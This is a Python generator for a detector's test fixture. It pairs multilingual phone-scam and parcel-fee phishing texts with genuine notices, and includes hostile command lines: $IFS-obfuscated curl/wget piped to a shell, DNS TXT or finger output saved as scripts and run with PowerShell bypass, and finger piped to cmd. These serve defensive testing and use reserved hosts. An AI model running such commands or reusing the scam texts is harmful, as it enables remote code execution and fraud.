"""Writes tests/data/cases/b20fix.jsonl: the kinds of text BLIND-20's misses stand for (helper
"b20fix", 2026-12-07 night), written here from general knowledge of such texts, each beside
look-alikes on the other side that must keep their level.

    python tests/data/cases/make_b20fix.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid) and documentation
addresses, phone numbers are made-up 555 ones; no blind set's text, lure collection or other
detector's fixture is copied. Each line is {id, text, expect, technique, platform, source, target}.

By kind:

- `scam-call-id-locked`: "your Apple ID / your account at <brand> has been locked" beside a number
  to call, in the thirteen languages of the scam-call rules (41-scam-calls.yaml), with a national
  number as well as an international one: the brand between the account word and its state, or
  an ID word (identifiant, ID de Apple, Apple-ID, Kimliğiniz) the rules did not read. With the
  brand it is malicious, as the English form is; and in the further languages of those rules
  (sv da no fi hu ro el uk bg cs sk hr he hi id vi th tl fa).
- `scam-call-sign-in`: "a suspicious sign-in was detected, call …" (connexion suspecte, inicio de
  sesión sospechoso, verdächtige Anmeldung, accesso sospetto, login suspeito, verdachte aanmelding,
  şüpheli giriş, подозрительный вход, 不審なサインイン, 可疑登录, تسجيل دخول مشبوه).
  The genuine notice of the same shape (a new sign-in, change your password in the app or on the
  site; a support page's number for a locked ID, said calmly) stays quiet, and so does advice
  with the state in an if-clause ("Si votre compte Microsoft a été bloqué, appelez …"), now
  read in fr es it pt nl pl ru de as the English rule reads it.
- `parcel-fee-hours`: a parcel held at customs, a small fee, a number to call and a limit in
  hours written in the notice's own language (antes de 48 horas, sous 48 h, innerhalb von 24
  Stunden, entro 48 ore, nas próximas 48 horas, binnen 24 uur, w ciągu 24 godzin): 41-scam-calls'
  PG-SCAM-PAY-BY-PHONE read hours only in English and Japanese. A courier's notice that gives its
  opening hours ("de 8 h à 18 h", "24 horas", "24 ore su 24") and a way to pay online stays quiet.
- `ifs-name-to-shell`: a downloader whose name is cut up by $IFS (`c${IFS}u${IFS}r${IFS}l -s
  https://… | sh`), handed to a shell: blocked, as `curl${IFS}-s${IFS}…|sh` already was
  (20-unix.yaml PG-NIX-PIPE-TO-SHELL). $IFS in a script that only sets or reads it stays quiet.
- `dns-record-to-script`: a name server's TXT answer (or finger's) saved as a script and handed to
  its interpreter (`nslookup -q=txt … > %tmp%\\x.ps1 & powershell -ep bypass -f %tmp%\\x.ps1`):
  PG-WIN-NETWORK-OUTPUT-TO-SCRIPT. A lookup saved to a text file and opened in Notepad, a build
  script run with its log redirected stay quiet; an installer saved by curl and run by
  PowerShell stays below a warning (the download-and-run rules judge it, with their clearing).
- `forum-names-repo`: a forum thread whose address names the repository it installs from
  (`/comments/…/autoyes_tool/` and github.com/<owner>/claude-code-autoyes) is about software, so
  its third-party installer is a warning (issue 9 point 3), not blocked as "off topic"
  (provenance.page_names_repository). A recipe thread handing out a stranger's repository stays
  blocked.
- `defanged-finger-ioc`: an IOC list quoting a finger command whose host is written defanged
  (`finger cmd@relay-stage[.]invalid`) fetches nothing: PG-NIX-FINGER-LOOKUP and finger.exe's
  catalogue entry read the whole host, never one with `[.]` in it. The live command stays
  flagged.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b20fix.jsonl")
RUN = "run_dialog"
TERMINAL = "terminal"
OTHER = "other"
UNKNOWN = "unknown"
SCAM_PAGE = "https://account-locked-support.invalid/help"
PARCEL_PAGE = "https://parcel-redelivery-fee.test/track"
WIKI = "https://wiki.soc.example/intel/ioc/2026-12"
BLOG = "https://research.tailwind-sec.test/posts/finger-staging"

# (text, expect) — brand-ID or brand-account lock beside a number, national and international
ID_LOCKED = [
    (
        "Votre identifiant Apple a été verrouillé pour des raisons de sécurité. Pour le débloquer, "
        "appelez l'assistance Apple au 01 45 55 18 27 avant ce soir.",
        "malicious",
    ),
    (
        "Votre compte Microsoft a été bloqué suite à une activité inhabituelle. Appelez le support "
        "au 04 72 55 61 09.",
        "malicious",
    ),
    (
        "Votre compte PayPal est suspendu. Contactez notre service au +33 1 55 55 40 12.",
        "malicious",
    ),
    (
        "Su ID de Apple ha sido bloqueado por motivos de seguridad. Llame al soporte de Apple al "
        "910 555 227.",
        "malicious",
    ),
    (
        "Su cuenta de Amazon ha sido suspendida. Llame al +34 912 555 408 para reactivarla.",
        "malicious",
    ),
    (
        "Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt. Rufen Sie den Apple Support unter "
        "030 5555 1234 an.",
        "malicious",
    ),
    ("Ihr Konto bei Amazon wurde vorübergehend gesperrt. Rufen Sie 089 5555 7710 an.", "malicious"),
    (
        "Il tuo ID Apple è stato bloccato per motivi di sicurezza. Chiama l'assistenza Apple al "
        "02 5555 1234.",
        "malicious",
    ),
    ("Il tuo account Microsoft è stato sospeso. Chiama subito il +39 06 5555 8812.", "malicious"),
    (
        "O seu ID Apple foi bloqueado por motivos de segurança. Ligue para o suporte Apple: "
        "212 345 678.",
        "malicious",
    ),
    ("Sua conta Netflix foi suspensa. Ligue para 0800 555 1234 para reativar.", "malicious"),
    (
        "Uw Apple ID is geblokkeerd om veiligheidsredenen. Bel Apple Support op 020 555 1234.",
        "malicious",
    ),
    ("Je Microsoft account is tijdelijk vergrendeld. Bel +31 10 555 4411.", "malicious"),
    (
        "Twój Apple ID został zablokowany ze względów bezpieczeństwa. Zadzwoń do wsparcia Apple: "
        "22 555 12 34.",
        "malicious",
    ),
    (
        "Apple Kimliğiniz güvenlik nedeniyle kilitlendi. Apple Destek'i 0212 555 12 34 "
        "numarasından arayın.",
        "malicious",
    ),
    (
        "Ваш Apple ID заблокирован по соображениям безопасности. Позвоните в поддержку Apple: "
        "8 (495) 555-12-34.",
        "malicious",
    ),
    (
        "お使いのApple IDはセキュリティ上の理由でロックされました。Appleサポート 03-5555-1234 "
        "までお電話ください。",
        "malicious",
    ),
    ("您的Apple ID已被锁定。请致电Apple支持 010-5555-1234。", "malicious"),
    ("تم قفل معرف Apple الخاص بك لأسباب أمنية. اتصل بدعم Apple على 011 555 1234.", "malicious"),
    (
        "귀하의 Apple ID가 보안상의 이유로 잠겼습니다. Apple 지원 02-555-1234로 전화하십시오.",
        "malicious",
    ),
]

SIGN_IN = [
    "Une connexion suspecte a été détectée sur votre compte. Appelez le 01 45 55 27 40 dans "
    "les 24 heures.",
    "Se ha detectado un inicio de sesión sospechoso en su cuenta. Llame al 910 555 318.",
    "Eine verdächtige Anmeldung wurde festgestellt. Rufen Sie uns unter 030 5555 2290 an.",
    "È stato rilevato un accesso sospetto al tuo account. Chiama il 02 5555 6071.",
    "Detectamos um login suspeito na sua conta. Ligue para 0800 555 9012.",
    "Er is een verdachte aanmelding op uw account gedetecteerd. Bel 020 555 7731.",
    "Hesabınızda şüpheli giriş tespit edildi. 0212 555 44 10 numarasını arayın.",
    "Обнаружен подозрительный вход в ваш аккаунт. Позвоните 8 (495) 555-40-17.",
    "不審なサインインが検出されました。0120-555-123 までお電話ください。",
    "检测到可疑登录。请致电 400-555-1234。",
    "تم اكتشاف تسجيل دخول مشبوه إلى حسابك. اتصل على +966 11 555 1234.",
]

# genuine notices and pages of the same shape: a new sign-in with no number, a calm support
# page's number, the bank's own channel
GENUINE = [
    "Une nouvelle connexion à votre identifiant Apple a été détectée depuis un Mac. Si c'était "
    "vous, ignorez ce message. Sinon, modifiez votre mot de passe sur appleid.apple.com.",
    "Identifiant Apple oublié ? L'assistance Apple répond au 0805 540 003, du lundi au samedi.",
    "Se ha detectado un nuevo inicio de sesión en su cuenta desde Chrome en Windows. Si no fue "
    "usted, cambie su contraseña en la aplicación.",
    "Neue Anmeldung bei Ihrem Konto: Firefox unter Windows, Berlin. Waren Sie das nicht? Ändern "
    "Sie Ihr Passwort in der App.",
    "Nuovo accesso al tuo account da un iPhone. Se non sei stato tu, cambia la password nell'app.",
    "Novo login na sua conta pelo Chrome no Windows. Se não foi você, altere a senha no "
    "aplicativo.",
    "Er is ingelogd op uw account vanaf een nieuw apparaat. Was u dit niet? Wijzig uw "
    "wachtwoord in de app.",
    "Hesabınıza yeni bir cihazdan giriş yapıldı. Siz değilseniz şifrenizi mobil uygulamadan "
    "değiştirin.",
    "Выполнен вход в ваш аккаунт с нового устройства. Если это были не вы, смените пароль в "
    "приложении.",
    "新しいデバイスからアカウントにサインインがありました。心当たりがない場合はアプリでパスワードを変更してください。",
    "您的账户在新设备上登录。如非本人操作，请在App中修改密码。",
    "Apple ID gesperrt? So entsperren Sie es: iforgot.apple.com öffnen und den Anweisungen "
    "folgen. Die Apple Support-Hotline erreichen Sie werktags unter 0800 6645 451.",
    # advice: the state inside an if-clause, then the number to call
    "Si vous pensez que votre identifiant Apple a été verrouillé, appelez l'assistance Apple au "
    "0805 540 003.",
    "Wenn Ihre Apple-ID gesperrt wurde, rufen Sie den Apple Support unter 0800 6645 451 an.",
    "Si su ID de Apple ha sido bloqueado, llame al soporte de Apple al 900 555 812.",
    "Se il tuo ID Apple è stato bloccato, chiama l'assistenza Apple al 800 555 512.",
    "Als uw Apple ID is vergrendeld, bel Apple Support op 0800 555 0218.",
    "Jeśli Twój Apple ID został zablokowany, zadzwoń na infolinię Apple 800 555 112.",
]

# the same two in the further languages of the scam-call rules (sv da no fi hu ro el uk bg cs
# sk hr he hi id vi th tl fa), where the ID word and the brand beside the account were
# not read either, nor the suspicious sign-in in da ro bg he id vi th fa
ID_LOCKED_MORE = [
    "Ditt Apple-ID har låsts av säkerhetsskäl. Ring Apple Support på 08-555 123 45.",
    "Dit Apple-id er blevet låst af sikkerhedsmæssige årsager. Ring til Apple Support på 33 55 51 23.",
    "Din Apple-ID er låst av sikkerhetshensyn. Ring Apple Support på 22 55 51 23.",
    "Apple ID:si on lukittu turvallisuussyistä. Soita Applen tukeen numeroon 09 555 1234.",
    "Az Apple ID-ját biztonsági okokból zárolták. Hívja az Apple ügyfélszolgálatát: 06 1 555 1234.",
    "ID-ul dumneavoastră Apple a fost blocat din motive de securitate. Sunați la suportul Apple: 021 555 1234.",
    "Το Apple ID σας κλειδώθηκε για λόγους ασφαλείας. Καλέστε την υποστήριξη της Apple στο 210 555 1234.",
    "Ваш Apple ID заблоковано з міркувань безпеки. Зателефонуйте в підтримку Apple: 044 555 1234.",
    "Вашият Apple ID е блокиран от съображения за сигурност. Обадете се на поддръжката на Apple: 02 555 1234.",
    "Vaše Apple ID bylo z bezpečnostních důvodů zablokováno. Zavolejte podporu Apple na 222 555 123.",
    "Vaše Apple ID bolo z bezpečnostných dôvodov zablokované. Zavolajte podporu Apple na 02 5555 1234.",
    "Vaš Apple ID je zaključan iz sigurnosnih razloga. Nazovite Appleovu podršku na 01 555 1234.",
    "מזהה ה-Apple שלך ננעל מסיבות אבטחה. התקשרו לתמיכה של Apple במספר 03-555-1234.",
    "आपकी Apple ID सुरक्षा कारणों से लॉक कर दी गई है। Apple सहायता को 011-5555-1234 पर कॉल करें।",
    "ID Apple Anda telah dikunci karena alasan keamanan. Hubungi dukungan Apple di 021-555-1234.",
    "ID Apple của bạn đã bị khóa vì lý do bảo mật. Gọi cho bộ phận hỗ trợ Apple theo số 024 5555 1234.",
    "Apple ID ของคุณถูกล็อกเนื่องจากเหตุผลด้านความปลอดภัย โทรหาฝ่ายสนับสนุนของ Apple ที่ 02-555-1234",
    "Ang iyong Apple ID ay na-lock dahil sa seguridad. Tawagan ang Apple Support sa 02 8555 1234.",
    "Apple ID شما به دلایل امنیتی قفل شده است. با پشتیبانی Apple به شماره 021-5555-1234 تماس بگیرید.",
]

SIGN_IN_MORE = [
    "En misstänkt inloggning har upptäckts på ditt konto. Ring 08-555 123 45.",
    "Et mistænkeligt login er registreret på din konto. Ring 33 55 51 23.",
    "En mistenkelig pålogging er oppdaget på kontoen din. Ring 22 55 51 23.",
    "Tililläsi havaittiin epäilyttävä kirjautuminen. Soita numeroon 09 555 1234.",
    "Gyanús bejelentkezést észleltünk a fiókjában. Hívja a 06 1 555 1234 számot.",
    "A fost detectată o autentificare suspectă în contul dumneavoastră. Sunați la 021 555 1234.",
    "Εντοπίστηκε ύποπτη σύνδεση στον λογαριασμό σας. Καλέστε στο 210 555 1234.",
    "Виявлено підозрілий вхід у ваш обліковий запис. Зателефонуйте 044 555 1234.",
    "Открит е подозрителен вход във вашия акаунт. Обадете се на 02 555 1234.",
    "Bylo zjištěno podezřelé přihlášení k vašemu účtu. Zavolejte na 222 555 123.",
    "Zistili sme podozrivé prihlásenie do vášho účtu. Zavolajte na 02 5555 1234.",
    "Otkrivena je sumnjiva prijava na vaš račun. Nazovite 01 555 1234.",
    "זוהתה התחברות חשודה לחשבון שלך. התקשרו 03-555-1234.",
    "आपके खाते में संदिग्ध लॉगिन का पता चला है। 011-5555-1234 पर कॉल करें।",
    "Login mencurigakan terdeteksi di akun Anda. Hubungi 021-555-1234.",
    "Phát hiện đăng nhập đáng ngờ vào tài khoản của bạn. Gọi 024 5555 1234.",
    "ตรวจพบการเข้าสู่ระบบที่น่าสงสัยในบัญชีของคุณ โทร 02-555-1234",
    "May kahina-hinalang pag-login sa iyong account. Tumawag sa 02 8555 1234.",
    "ورود مشکوک به حساب شما شناسایی شد. با شماره 021-5555-1234 تماس بگیرید.",
]

GENUINE_MORE = [
    "Ny inloggning på ditt Apple-ID från en Mac. Var det inte du? Byt lösenord i appen.",
    "Nové přihlášení k vašemu účtu z prohlížeče Chrome. Pokud jste to nebyli vy, změňte heslo v aplikaci.",
    "מישהו התחבר לחשבון שלך ממכשיר חדש. אם זה לא היית אתה, שנה את הסיסמה באפליקציה.",
    "Ada login baru ke akun Anda dari perangkat Windows. Jika bukan Anda, ubah kata sandi di aplikasi.",
    "Có lượt đăng nhập mới vào tài khoản của bạn từ Windows. Nếu không phải bạn, hãy đổi mật khẩu trong ứng dụng.",
    "Har du glemt dit Apple-id? Apple Support har åbent på hverdage på 80 24 00 00.",
]

# advice with the state in an if-clause, in those languages: quiet, as in English
ADVICE_MORE = [
    "Om ditt Apple-ID har låsts, ring Apple Support på 08-555 123 45.",
    "Hvis dit Apple-id er blevet låst, så ring til Apple Support på 33 55 51 23.",
    "Hvis din Apple-ID er låst, ring Apple Support på 22 55 51 23.",
    "Jos Apple ID:si on lukittu, soita Applen tukeen numeroon 09 555 1234.",
    "Ha az Apple ID-ját zárolták, hívja az Apple ügyfélszolgálatát: 06 1 555 1234.",
    "Dacă ID-ul dumneavoastră Apple a fost blocat, sunați la suportul Apple: 021 555 1234.",
    "Αν το Apple ID σας κλειδώθηκε, καλέστε την υποστήριξη της Apple στο 210 555 1234.",
    "Якщо ваш Apple ID заблоковано, зателефонуйте в підтримку Apple: 044 555 1234.",
    "Ако вашият Apple ID е блокиран, обадете се на поддръжката на Apple: 02 555 1234.",
    "Pokud vaše Apple ID bylo zablokováno, zavolejte podporu Apple na 222 555 123.",
    "Ak vaše Apple ID bolo zablokované, zavolajte podporu Apple na 02 5555 1234.",
    "Ako je vaš Apple ID zaključan, nazovite Appleovu podršku na 01 555 1234.",
    "אם מזהה ה-Apple שלך ננעל, התקשרו לתמיכה של Apple במספר 03-555-1234.",
    "यदि आपकी Apple ID लॉक हो गई है, तो Apple सहायता को 011-5555-1234 पर कॉल करें।",
    "Jika ID Apple Anda telah dikunci, hubungi dukungan Apple di 021-555-1234.",
    "Nếu ID Apple của bạn đã bị khóa, hãy gọi cho bộ phận hỗ trợ Apple theo số 024 5555 1234.",
    "หาก Apple ID ของคุณถูกล็อก โทรหาฝ่ายสนับสนุนของ Apple ที่ 02-555-1234",
    "Kung ang iyong Apple ID ay na-lock, tawagan ang Apple Support sa 02 8555 1234.",
    "اگر Apple ID شما قفل شده است، با پشتیبانی Apple به شماره 021-5555-1234 تماس بگیرید.",
]

PARCEL = [
    (
        "DHL Express: su paquete JD0150022 está retenido en aduana. Debe abonar una tasa de 1,99 € "
        "o llamar al 910 555 774 antes de 48 horas; de lo contrario, será devuelto al remitente."
    ),
    (
        "Colissimo : votre colis est retenu en douane. Réglez les frais de douane de 1,99 € ou "
        "appelez le 01 44 55 27 40 sous 48 h, sinon il sera retourné à l'expéditeur."
    ),
    (
        "DPD: Ihr Paket liegt beim Zoll. Zahlen Sie die Zollgebühr von 2,49 € oder rufen Sie "
        "030 5555 1234 innerhalb von 24 Stunden an, sonst geht es zurück an den Absender."
    ),
    (
        "Poste: il suo pacco è fermo in dogana. Paghi il dazio di 1,99 € o chiami il 02 5555 1234 "
        "entro 48 ore, altrimenti sarà rispedito al mittente."
    ),
    (
        "CTT: a sua encomenda está retida na alfândega. Pague a taxa alfandegária de 1,99 € ou "
        "ligue 212 345 678 nas próximas 48 horas; caso contrário será devolvida ao remetente."
    ),
    (
        "PostNL: uw pakket wordt vastgehouden bij de douane. Betaal de invoerrechten van € 1,99 of "
        "bel 020 555 1234 binnen 24 uur, anders gaat het retour afzender."
    ),
    (
        "InPost: Twoja paczka została zatrzymana przez urząd celny. Zapłać opłatę celną 4,99 zł lub "
        "zadzwoń 22 555 12 34 w ciągu 24 godzin, inaczej nastąpi zwrot do nadawcy."
    ),
]

PARCEL_GENUINE = [
    (
        "Correos: su paquete está retenido en la aduana. Los aranceles de 12,40 € se pagan en línea "
        "en correos.es. Para cualquier consulta, llame al 910 555 227 (atención 24 horas)."
    ),
    (
        "Votre colis est retenu en douane. Des frais de 12,40 € sont à régler en ligne. Pour toute "
        "question, appelez le 01 44 55 27 40 du lundi au vendredi de 8 h à 18 h."
    ),
    (
        "Ihr Paket liegt beim Zoll. Die Einfuhrabgaben von 12,40 € können Sie online bezahlen. "
        "Fragen? Rufen Sie 0228 5555 1234 an, wir sind 24 Stunden erreichbar."
    ),
    (
        "Il suo pacco è in dogana: il dazio di 8,50 € si paga online. Servizio clienti "
        "02 5555 1234, attivo 24 ore su 24."
    ),
]


def scam(book: Book) -> None:
    for i, (text, expect) in enumerate(ID_LOCKED):
        book.add("scam-call-id-locked", text, expect, "any", UNKNOWN, SCAM_PAGE if i % 2 else None)
    for i, text in enumerate(SIGN_IN):
        book.add("scam-call-sign-in", text, "flagged", "any", UNKNOWN, SCAM_PAGE if i % 2 else None)
    for text in GENUINE:
        book.add("scam-call-sign-in", text, "not_flagged", "any", OTHER, None)
    for i, text in enumerate(ID_LOCKED_MORE):
        book.add(
            "scam-call-id-locked", text, "malicious", "any", UNKNOWN, SCAM_PAGE if i % 2 else None
        )
    for i, text in enumerate(SIGN_IN_MORE):
        book.add("scam-call-sign-in", text, "flagged", "any", UNKNOWN, SCAM_PAGE if i % 2 else None)
    for text in GENUINE_MORE:
        book.add("scam-call-sign-in", text, "not_flagged", "any", OTHER, None)
    for text in ADVICE_MORE:
        book.add("scam-call-id-locked", text, "not_flagged", "any", OTHER, None)
    for i, text in enumerate(PARCEL):
        book.add(
            "parcel-fee-hours", text, "flagged", "any", UNKNOWN, PARCEL_PAGE if i % 2 else None
        )
    for text in PARCEL_GENUINE:
        book.add("parcel-fee-hours", text, "not_flagged", "any", OTHER, None)


def commands(book: Book) -> None:
    tech = "ifs-name-to-shell"
    for text in (
        "c${IFS}u${IFS}r${IFS}l -s https://ifs-stage.test/i|sh",
        "w${IFS}g${IFS}e${IFS}t -qO- http://203.0.113.77/x | bash",
        "cu${IFS}rl -fsSL https://cdn.ifs-relay.invalid/p.sh | sudo sh",
        "c$IFS'u'rl -s https://stage.ifs-relay.invalid/k|zsh",
        "cu$IFS\\rl -s https://192.0.2.61/a.sh | sh",
    ):
        book.add(tech, text, "malicious", "linux", TERMINAL, None)
    for text in (
        'IFS=, read -r name value <<< "$line"',
        "old_ifs=$IFS; IFS=$'\\n'; for f in $(ls *.log); do gzip \"$f\"; done; IFS=$old_ifs",
        "curl -fsSL https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name",
    ):
        book.add(tech, text, "not_flagged", "linux", TERMINAL, None)

    tech = "dns-record-to-script"
    for text, target in (
        (
            'cmd /c "nslookup -q=txt cfg.tarn-relay.invalid 203.0.113.254 | find "$" > %tmp%\\c.ps1 '
            '& powershell -ep bypass -f %tmp%\\c.ps1"',
            RUN,
        ),
        (
            "nslookup -type=txt s.tarn-relay.invalid 198.51.100.53 | findstr /v Server > %temp%\\s.bat"
            " && cmd /c %temp%\\s.bat",
            RUN,
        ),
        ("finger stage@198.51.100.90 > %temp%\\u.vbs & wscript %temp%\\u.vbs", RUN),
        (
            'cmd /c "nslookup -q=txt k.tarn-relay.invalid | find "v=" > %appdata%\\k.ps1 & '
            'powershell -w hidden -nop -file %appdata%\\k.ps1"',
            TERMINAL,
        ),
        ("nslookup -q=txt j.tarn-relay.invalid > %tmp%\\j.hta & start mshta %tmp%\\j.hta", UNKNOWN),
    ):
        book.add(tech, text, "malicious", "windows", target, None)
    for text, expect in (
        ("nslookup -q=txt example.org > %tmp%\\txt.txt & notepad %tmp%\\txt.txt", "not_flagged"),
        ("powershell -ExecutionPolicy Bypass -File .\\build.ps1 > build.log", "not_flagged"),
        (
            "curl -s https://example.com/install.ps1 > install.ps1 & powershell -File install.ps1",
            "not_flagged",
        ),
    ):
        book.add(tech, text, expect, "windows", TERMINAL, None)


def pages(book: Book) -> None:
    tech = "forum-names-repo"
    for text, page in (
        (
            "uv tool install git+https://github.com/wrenfield/claude-code-autoyes.git",
            "https://www.reddit.com/r/ClaudeAI/comments/1x9k2p/autoyes_for_claude_code/",
        ),
        (
            "pipx install git+https://github.com/orrin-dev/quillsort-cli.git",
            "https://www.reddit.com/r/Python/comments/1x7a0q/quillsort_sorts_my_notes/",
        ),
        (
            "uv tool install git+https://github.com/halvard/tidewatch-cli",
            "https://www.reddit.com/r/sailing/comments/1x5b3c/tidewatch_for_my_boat/",
        ),
    ):
        book.add(tech, text, "suspicious", "linux", TERMINAL, page)
    for text, page in (
        (
            "uv tool install git+https://github.com/wrenfield/claude-code-autoyes.git",
            "https://www.reddit.com/r/Cooking/comments/1x9k2p/best_banana_bread_recipe/",
        ),
        (
            "pipx install git+https://github.com/orrin-dev/quillsort-cli.git",
            "https://www.reddit.com/r/soccer/comments/1x7a0q/match_thread_derby_day/",
        ),
        (
            "uv tool install git+https://github.com/halvard/tidewatch-cli",
            "https://www.reddit.com/r/sailing/comments/1x5b3c/best_knots_for_mooring/",
        ),
    ):
        book.add(tech, text, "malicious", "linux", TERMINAL, page)

    tech = "defanged-finger-ioc"
    for text, target in (
        (
            "IOC list 2026-12-01 (defanged):\n- hxxps://cloudflare-verify[.]test/check.hta\n"
            "- 198.51.100[.]71\n- finger cmd@relay-node[.]invalid\n"
            "- SHA256 9c2e4b1d0f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0",
            UNKNOWN,
        ),
        (
            "IOC list 2026-12-01 (defanged):\n- hxxps://cloudflare-verify[.]test/check.hta\n"
            "- 198.51.100[.]71\n- finger cmd@relay-node[.]invalid",
            OTHER,
        ),
        (
            "Indicators:\n- finger.exe gate@staging-host[.]test\n- 203.0.113[.]140\n"
            "- hxxp://staging-host[.]test/p.txt",
            UNKNOWN,
        ),
        ("Observed command: finger x@dns-relay[.]invalid | cmd (defanged)", OTHER),
        ("finger cmd@relay-node[.]invalid", UNKNOWN),
    ):
        book.add(tech, text, "not_flagged", "any", target, (WIKI, BLOG)[len(text) % 2])
    for text, expect, target in (
        ("finger cmd@relay-node.invalid | cmd", "malicious", RUN),
        ("finger.exe gate@staging-host.test | cmd", "malicious", TERMINAL),
        ("cmd /c finger Kr@203.0.113.141|cmd", "malicious", RUN),
    ):
        book.add(tech, text, expect, "windows", target, None)


def build() -> list[dict[str, str]]:
    book = Book("b20f")
    scam(book)
    commands(book)
    pages(book)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
